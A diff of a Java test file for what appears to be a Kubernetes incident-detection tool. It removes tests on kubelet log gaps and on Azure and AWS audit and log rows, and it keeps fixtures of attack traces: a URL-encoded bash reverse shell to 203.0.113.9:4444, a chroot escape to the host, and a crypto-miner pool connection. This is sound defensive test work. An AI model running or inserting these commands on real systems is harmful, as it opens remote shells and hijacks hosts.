@@ -5,10 +5,8 @@ import static org.assertj.core.api.Assertions.tuple;
 import static org.ephemera.analyze.cluster.ShopCluster.A;
 import static org.ephemera.analyze.cluster.ShopCluster.B;
 
-import com.fasterxml.jackson.databind.node.ArrayNode;
 import com.fasterxml.jackson.databind.node.ObjectNode;
 import java.io.ByteArrayOutputStream;
-import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.util.List;
@@ -41,6 +39,7 @@ class ClusterPackageTest {
     private static final String MINER = "2026-11-26T12:11:00.000000001Z net      use pool pool.example:3333  TLSv1.3\n";
     private static final String CHROOT = "2026-11-26T11:53:20.123456789Z + chroot /host /bin/bash\n";
     private static final String QUIET = "2026-11-26T12:13:00.000000001Z checkout 1.8 listens on 8080\n";
+
     private static final String SHELL =
             "command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261";
 
@@ -192,50 +191,10 @@ class ClusterPackageTest {
                 .containsExactly("uses 998213345n CPU and 402132Ki memory");
     }
 
-    private static List<Finding> found(Analysis analysis, String rule) {
+    static List<Finding> found(Analysis analysis, String rule) {
         return analysis.findings().stream()
                 .filter(finding -> finding.rule().id().equals(rule))
                 .toList();
-    }
-
-    /** The kubelet answers 200 with its own words where it has no log. */
-    @Test
-    void wordsOfTheKubeletAreNoLog() throws Exception {
-        SealedFixture fixture = ShopCluster.in(folder);
-        ShopCluster.log(
-                fixture,
-                "kubernetes.log",
-                ShopCluster.container(A, "pod-a", "checkout"),
-                "unable to retrieve container logs for containerd://c1");
-        ShopCluster.log(
-                fixture,
-                "kubernetes.log",
-                ShopCluster.container(B, "pod-b", "checkout"),
-                "2026-11-26T12:13:00.000000001Z unable to retrieve container logs for containerd://c1\n");
-        Analysis analysis = analyzed(fixture);
-        assertThat(analysis.gaps())
-                .filteredOn(gap -> gap.why().contains("the kubelet says there"))
-                .singleElement()
-                .extracting(Gap::what)
-                .isEqualTo("kubernetes.log.1");
-        assertThat(text("logs/index.csv")).contains("shop/" + B + "/checkout,1").doesNotContain(A);
-    }
-
-    /** At the end of a log it may say anything; an agent that puts no time before any line is taken at its word. */
-    @Test
-    void whatEndsALogWithoutATimeIsNotTheContainers() throws Exception {
-        String words = "failed to do what no version of it has said so far";
-        SealedFixture fixture = ShopCluster.in(folder);
-        ShopCluster.log(fixture, "kubernetes.log", ShopCluster.container(A, "pod-a", "checkout"), QUIET + words);
-        ShopCluster.log(fixture, "kubernetes.log", ShopCluster.container(A, "pod-a", "cut"), QUIET + "2026-11-26T12:1");
-        ShopCluster.log(fixture, "kubernetes.log", ShopCluster.container(B, "pod-b", "plain"), "one\n" + words + "\n");
-        Analysis analysis = analyzed(fixture);
-        assertThat(analysis.gaps())
-                .filteredOn(gap -> gap.why().contains("the kubelet says there"))
-                .extracting(Gap::what)
-                .containsExactly("kubernetes.log.1");
-        assertThat(text("logs/index.csv"))
-                .contains("shop/" + A + "/checkout,1", "shop/" + A + "/cut,2", "shop/" + B + "/plain,2");
     }
 
     /** Whoever may make pods needs no way out of a container; a token that is not there helps nobody. */
@@ -378,131 +337,6 @@ class ClusterPackageTest {
                         gap.toString().contains("ESC-033") && gap.toString().contains("list ingresses"))
                 .anyMatch(gap ->
                         gap.toString().contains("EXE-001") && gap.toString().contains("no audit log of the cluster"));
-    }
-
-    /** A row has the event in columns or as a text; the API server tells of each stage of a request. */
-    @Test
-    void rowsOfAWorkspaceAreCalls() throws Exception {
-        ObjectNode text = ShopCluster.exec("a-2", B, "command=sh&tty=true");
-        ObjectNode parts = ShopCluster.exec("a-1", A, SHELL);
-        Analysis analysis = analyzed(rows(
-                new String[] {
-                    "TableName", "log_s", "Verb", "AuditId", "RequestUri", "RequestReceivedTime", "User", "ObjectRef"
-                },
-                new String[] {"AzureDiagnostics", FixtureCalls.text(text), "", "", "", "", "", ""},
-                new String[] {"AzureDiagnostics", "cut off {", "", "", "", "", "", ""},
-                new String[] {
-                    "AKSAudit",
-                    "",
-                    "get",
-                    "a-1",
-                    parts.path("requestURI").asText(),
-                    "2026-11-26T11:53:13.5Z",
-                    FixtureCalls.text(parts.path("user")),
-                    FixtureCalls.text(parts.path("objectRef"))
-                }));
-        assertThat(found(analysis, "EXE-001"))
-                .extracting(Finding::subject)
-                .containsExactlyInAnyOrder("shop/" + A + "/checkout", "shop/" + B + "/checkout");
-        assertThat(found(analysis, "EXE-001")).extracting(Finding::because).anyMatch(why -> why.contains("/dev/tcp/"));
-        assertThat(analysis.gaps())
-                .extracting(Gap::why)
-                .anyMatch(why -> why.contains("there is no call to read at /tables/0/rows/1"));
-    }
-
-    /** Where only changes were sent, an exec over WebSocket was not among them. */
-    @Test
-    void whatHasNoReadsHidesAnExec() throws Exception {
-        Analysis analysis = analyzed(rows(
-                new String[] {"TableName", "Verb", "AuditId", "RequestUri", "RequestReceivedTime", "ObjectRef"},
-                new String[] {
-                    "AKSAuditAdmin",
-                    "patch",
-                    "a-1",
-                    "/apis/apps/v1/namespaces/shop/deployments/checkout",
-                    "2026-11-26T11:53:13.5Z",
-                    "{\"resource\":\"deployments\",\"namespace\":\"shop\",\"name\":\"checkout\"}"
-                }));
-        assertThat(found(analysis, "EXE-001")).isEmpty();
-        assertThat(analysis.gaps())
-                .anyMatch(gap -> gap.what().equals("EXE-001") && gap.why().contains("kube-audit-admin"));
-        assertThat(text("report.html")).contains("No sign in part of the records");
-    }
-
-    private SealedFixture rows(String[] columns, String[]... rows) {
-        ObjectNode body = Json.object();
-        ObjectNode table = body.withArray("tables").addObject().put("name", "PrimaryResult");
-        for (String column : columns) {
-            table.withArray("columns").addObject().put("name", column).put("type", "string");
-        }
-        for (String[] row : rows) {
-            var cells = table.withArray("rows").addArray();
-            for (String cell : row) {
-                cells.add(cell);
-            }
-        }
-        return ShopCluster.in(folder)
-                .item(
-                        "azure.aks.audit",
-                        Map.of("cluster", "shop"),
-                        FixtureAnswer.json("operationalinsights:Query_Execute", FixtureCalls.text(body)));
-    }
-
-    /** An agent on the nodes wraps each line; a table of a workspace says whose it is. */
-    @Test
-    void linesThatWereKeptElsewhereAreReadToo() throws Exception {
-        ObjectNode line =
-                Json.object().put("log", "net      use pool pool.example:3333").put("stream", "stdout");
-        line.putObject("kubernetes")
-                .put("pod_name", B)
-                .put("namespace_name", "shop")
-                .put("container_name", "checkout");
-        ObjectNode page = Json.object();
-        page.withArray("events")
-                .addObject()
-                .put("timestamp", 1_795_000_000_000L)
-                .put("message", FixtureCalls.text(line));
-        Analysis analysis = analyzed(ShopCluster.in(folder)
-                .item(
-                        "aws.eks.insights-logs",
-                        Map.of("cluster", "shop"),
-                        FixtureAnswer.json("logs:FilterLogEvents", FixtureCalls.text(page))));
-        assertThat(found(analysis, "LOG-001"))
-                .extracting(Finding::subject)
-                .containsExactly("shop/" + B + "/checkout (Container Insights)");
-    }
-
-    /** A log group of the class Infrequent Access is read by a query alone, whose rows are read as its events are. */
-    @Test
-    void rowsOfLogsInsightsAreReadAsEventsAre() throws Exception {
-        ObjectNode line = Json.object().put("log", "net      use pool pool.example:3333");
-        line.putObject("kubernetes")
-                .put("pod_name", B)
-                .put("namespace_name", "shop")
-                .put("container_name", "checkout");
-        Analysis analysis = analyzed(ShopCluster.in(folder)
-                .item(
-                        "aws.eks.insights-logs",
-                        Map.of("cluster", "shop"),
-                        FixtureAnswer.json("logs:GetQueryResults", rows(FixtureCalls.text(line))))
-                .item(
-                        "aws.eks.audit",
-                        Map.of("cluster", "shop"),
-                        FixtureAnswer.json(
-                                "logs:GetQueryResults", rows(FixtureCalls.text(ShopCluster.exec("a-1", A, SHELL))))));
-        assertThat(found(analysis, "LOG-001"))
-                .extracting(Finding::subject)
-                .containsExactly("shop/" + B + "/checkout (Container Insights)");
-        assertThat(found(analysis, "EXE-001")).isNotEmpty();
-    }
-
-    private static String rows(String message) throws IOException {
-        ObjectNode page = Json.object().put("status", "Complete");
-        ArrayNode row = page.putArray("results").addArray();
-        row.addObject().put("field", "@timestamp").put("value", "2026-11-25 12:00:00.000");
-        row.addObject().put("field", "@message").put("value", message);
-        row.addObject().put("field", "@ptr").put("value", "p");
-        return FixtureCalls.text(page);
     }
 
     /** The cluster's own proxy needs the host; what is only named like it does not. */
